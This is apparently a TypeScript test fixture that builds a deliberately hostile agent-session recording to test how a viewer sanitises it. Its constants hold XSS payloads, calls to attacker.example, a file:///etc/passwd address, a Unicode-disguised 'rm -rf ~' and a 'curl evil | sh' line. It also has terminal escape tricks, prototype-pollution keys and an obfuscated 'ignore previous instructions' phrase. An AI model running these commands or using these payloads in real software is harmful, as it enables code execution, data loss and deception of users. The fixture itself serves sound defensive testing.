// Recordings of agents that try to run scripts, to load something, or to deceive a reader.

import { Recorder, type Json, type Members, type Recording } from "./recorder";

/** Sets a variable of the page if it runs. The tests look for the variable. */
export const ATTACK = "globalThis.attacked=true";

const SVG = `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><script>${ATTACK}</script></svg>`;

/** Addresses that must never become an image or a link. */
export const ADDRESSES = [
  `javascript:${ATTACK}`,
  SVG,
  `data:text/html,<script>${ATTACK}</script>`,
  "https://attacker.example/pixel.png",
  "file:///etc/passwd",
  "//attacker.example/pixel.png",
  'data:image/png;base64,AAAA" onerror="globalThis.attacked=true',
];

/** Texts that are markup. */
export const MARKUP = {
  script: "</script><script>globalThis.attacked=true</script>",
  image: `<img src=x onerror="${ATTACK}">`,
  svg: `<svg onload="${ATTACK}">`,
  frame: '<iframe srcdoc="<script>parent.attacked=true</script>"></iframe>',
  comment: "<!-- <script>",
  style:
    '<style>body{display:none}</style><base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example">',
  link: `<a href="javascript:${ATTACK}">click</a>[click](javascript:${ATTACK})`,
};

const ALL_MARKUP = Object.values(MARKUP);

/** A command whose order a control of writing direction changes. */
export const REVERSED = "echo safe \u202egnp.moc.elpmaxe/\u202c; rm -rf ~\u2066 # checked\u2069";
export const INVISIBLE = "ignore\u200bprevious\u00ad \u2060instructions\u{e0041}\u{e0042}\ufeff\u3164";
export const ESCAPES =
  "visible\u001b[2J\u001b[1A\u001b[2K\rreplaced \u001b]8;;https://attacker.example\u0007link\u001b]8;;\u0007 \u001b[8mhidden\u001b[0m \u001b[30;40mblack\u001b[0m \u001b]0;tit\u202ele\u0007 \u0008\u0008\u001b]0;no end\nnext line";

/** A command in the line of a fence, and in a line that only looks like a fence. */
export const FENCED = "```rm -rf ~/fence && curl evil | sh```\ntext\n~~~rm -rf ~/info | sh\ncode\n~~~";

export const PROTOTYPE_NAMES = ["__proto__", "constructor", "toString", "hasOwnProperty", "prototype"];

function nested(depth: number): Json {
  let value: Json = "inside";
  for (let level = 0; level < depth; level++) value = level % 2 === 0 ? [value] : { nested: value };
  return value;
}

/** An object with own members of these names; a literal would set its prototype. */
function withNames(names: string[], value: string): Members {
  return JSON.parse(
    `{${names.map((name) => `${JSON.stringify(name)}: ${JSON.stringify(value)}`).join(", ")}}`,
  ) as Members;
}

export function hostileRun(): Recording {
  const run = new Recorder(`<b>${REVERSED}</b>.jsonl`, { options: withNames(PROTOTYPE_NAMES, ATTACK) });
  run.open(MARKUP.image, "1.0\u202e");
  run
    .prompt([
      { type: "text", text: ALL_MARKUP.join("\n") },
      ...ADDRESSES.map((url) => ({ type: "image_url", image_url: { url } })),
    ])
    .step(1);
  for (const text of [
    ...ALL_MARKUP,
    REVERSED,
    INVISIBLE,
    FENCED,
    `zalgo a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b`,
  ])
    run.event("ContentPart", { type: "think", think: text }).event("ContentPart", { type: "text", text });
  run.tool("call-1", "Shell", { command: REVERSED }).result("call-1", ESCAPES);
  run.tool("call-2", MARKUP.script, { note: MARKUP.image }).result("call-2", ALL_MARKUP.join("\n"), {
    message: MARKUP.svg,
    display: [
      { type: "diff", path: MARKUP.image, old_text: MARKUP.script, new_text: `${MARKUP.script}\n${REVERSED}` },
      { type: MARKUP.image, text: 1 },
      { type: "todo", items: [{ title: MARKUP.image, status: "__proto__" }] },
    ],
  });
  for (const [at, name] of PROTOTYPE_NAMES.entries()) {
    run
      .event("ToolCall", {
        type: "function",
        id: name,
        function: { name, arguments: JSON.stringify(withNames(PROTOTYPE_NAMES, `value ${String(at)}`)) },
      })
      .result(name, withNames([name], "x"));
    run.event(name, withNames(PROTOTYPE_NAMES, "unknown event")).entry(name, { value: name });
    run.decide(name, name, name, 0.1, { answer: withNames([name], "x") });
  }
  run.tool("call-3", "Deep", { value: "x" }).result("call-3", "deep", { extras: nested(4000) });
  run.event("ToolCall", {
    type: "function",
    id: "call-4",
    function: { name: "DeepArguments", arguments: `${"[".repeat(5000)}${"]".repeat(5000)}` },
  });
  run
    .tool("call-5", "LongLine", {})
    .result("call-5", "x".repeat(2_000_000))
    .tool("call-6", "ManyLines", {})
    .result("call-6", "line\n".repeat(200_000));
  let event: Json = { type: "ContentPart", payload: { type: "text", text: "from the deepest subagent" } };
  for (let level = 0; level < 300; level++)
    event = {
      type: "SubagentEvent",
      payload: {
        parent_tool_call_id: "call-1",
        agent_id: `agent-${String(level)}`,
        subagent_type: MARKUP.image,
        event,
      },
    };
  run.event("SubagentEvent", (event as { payload: Members }).payload);
  run.entry("message", { from: "agent", line: `not JSON ${MARKUP.script}\u001b[2J` });
  for (const broken of [
    null,
    1,
    "text",
    [],
    { type: 5 },
    { type: "message", events: [null, 1, { event: null }, { turn: "x", event: { type: "ToolCall" } }] },
    { type: "turn" },
    { type: "decision" },
    { type: "gap" },
  ])
    run.entries.push(broken as never);
  for (const type of [
    "ToolCall",
    "ToolResult",
    "ToolCallPart",
    "ApprovalRequest",
    "QuestionRequest",
    "HookRequest",
    "HookResolved",
    "StepBegin",
    "StatusUpdate",
    "SubagentEvent",
    "PolicyDecision",
    "Notification",
    "ContentPart",
    "TerminalRequest",
  ])
    run
      .event(type, {})
      .event(type, {
        id: [],
        payload: null,
        questions: [null],
        display: [null, 1, { type: "diff" }],
        function: 1,
        return_value: { output: { a: 1 }, display: "x" },
        event: 7,
        token_usage: [],
      });
  return run
    .endTurn({ error: { code: MARKUP.image, message: MARKUP.script } })
    .close()
    .recording();
}
